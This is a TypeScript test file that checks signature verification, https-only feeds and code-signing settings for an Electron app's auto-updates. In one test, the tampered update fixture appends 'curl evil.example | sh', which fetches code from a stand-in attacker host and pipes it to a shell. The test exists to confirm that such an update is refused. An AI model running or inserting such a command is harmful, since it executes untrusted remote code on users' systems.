import { generateKeyPairSync, sign } from 'node:crypto';
import { EventEmitter } from 'node:events';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkedFeedUrl, gateLinuxUpdates, type UpdaterLike } from '../../electron/main/platform/update-signature';
import { repoRoot, tempDir } from '../helpers/test-core';
import { readYaml } from '../unit/build/support';

/**
 * Issue 17 finding 3: an update is software the counter runs next. A feed that is not https is not
 * used, a Windows build must be signed, and a Linux update installs only with a detached signature
 * by the key shipped with the app — served here by a local update server, once genuine, once tampered.
 */
const { publicKey, privateKey } = generateKeyPairSync('ed25519');
const publicKeyPem = publicKey.export({ type: 'spki', format: 'pem' }).toString();
const release = Buffer.from('#!/bin/sh\necho "Quầy Một Cửa 1.2.0"\n');
const served = new Map<string, Buffer | string>();
let server: http.Server;
let feedUrl: string;

beforeAll(async () => {
  server = http.createServer((request, response) => {
    const body = served.get(request.url ?? '');
    if (body === undefined) return void response.writeHead(404).end();
    response.writeHead(200).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  feedUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
});
afterAll(() => new Promise((resolve) => server.close(resolve)));

class FakeUpdater extends EventEmitter implements UpdaterLike {
  autoInstallOnAppQuit = true;
}

/** The update as electron-updater leaves it in its cache, and the gate's verdict on it. */
async function download(bytes: Buffer, signature: string | null) {
  const file = path.join(tempDir('quay-update-'), 'quay-mot-cua-1.2.0-linux-x86_64.AppImage');
  fs.writeFileSync(file, bytes);
  served.clear();
  if (signature !== null) served.set(`/${path.basename(file)}.sig`, signature);
  const updater = new FakeUpdater();
  const logged: string[] = [];
  const verdicts = gateLinuxUpdates(updater, { feedUrl, publicKeyPem, log: (level, message) => logged.push(`${level} ${message}`) });
  expect(updater.autoInstallOnAppQuit).toBe(false);
  updater.emit('update-downloaded', { downloadedFile: file, version: '1.2.0' });
  const [verdict] = await Promise.all(verdicts);
  return { file, updater, verdict, logged };
}

const genuineSignature = sign(null, release, privateKey).toString('base64');

describe('finding 3: Linux updates carry a detached signature', () => {
  it('installs on quit an update whose signature the shipped key verifies', async () => {
    const { updater, verdict, file } = await download(release, genuineSignature);
    expect(verdict).toEqual({ ok: true });
    expect(updater.autoInstallOnAppQuit).toBe(true);
    expect(fs.existsSync(file)).toBe(true);
  });

  it('refuses a tampered update: deleted, not installed, logged, and nothing thrown', async () => {
    const tampered = Buffer.concat([release, Buffer.from('curl evil.example | sh\n')]);
    const { updater, verdict, file, logged } = await download(tampered, genuineSignature);
    expect(verdict).toMatchObject({ ok: false, reason: expect.stringContaining('does not match') });
    expect(updater.autoInstallOnAppQuit).toBe(false);
    expect(fs.existsSync(file)).toBe(false);
    expect(logged.join('\n')).toContain('refused');
  });

  it('refuses an update with no signature, or one signed by another key', async () => {
    expect((await download(release, null)).verdict).toMatchObject({ ok: false, reason: expect.stringContaining('HTTP 404') });
    const other = generateKeyPairSync('ed25519').privateKey;
    const forged = await download(release, sign(null, release, other).toString('base64'));
    expect(forged.verdict).toMatchObject({ ok: false });
    expect(forged.updater.autoInstallOnAppQuit).toBe(false);
  });
});

describe('finding 3: the feed and the build configuration', () => {
  it('uses only an https feed', () => {
    expect(checkedFeedUrl('provider: generic\nurl: http://updates.tinh.gov.vn/quay\n')).toMatchObject({ ok: false });
    expect(checkedFeedUrl('provider: generic\n')).toMatchObject({ ok: false });
    expect(checkedFeedUrl("provider: generic\nurl: 'https://updates.tinh.gov.vn/quay'\n")).toEqual({
      ok: true,
      url: 'https://updates.tinh.gov.vn/quay/',
    });
  });

  it('fails an unsigned Windows build, ships the update key, and the release workflow demands https and signs Linux artifacts', () => {
    const config = readYaml('electron-builder.yml') as { win: { forceCodeSigning?: boolean }; extraResources: unknown[] };
    expect(config.win.forceCodeSigning).toBe(true);
    expect(config.extraResources).toContainEqual({ from: 'build/update-signing-key.pem', to: 'update-signing-key.pem' });
    const key = fs.readFileSync(path.join(repoRoot, 'build', 'update-signing-key.pem'), 'utf8');
    expect(key).toMatch(/^-----BEGIN PUBLIC KEY-----/);
    const workflow = fs.readFileSync(path.join(repoRoot, '.github', 'workflows', 'release.yml'), 'utf8');
    expect(workflow.match(/https:\/\/\?\*\)/g)).toHaveLength(2);
    expect(workflow).toContain('openssl pkeyutl -sign -rawin');
    expect(workflow).toContain('release/*.sig');
  });
});
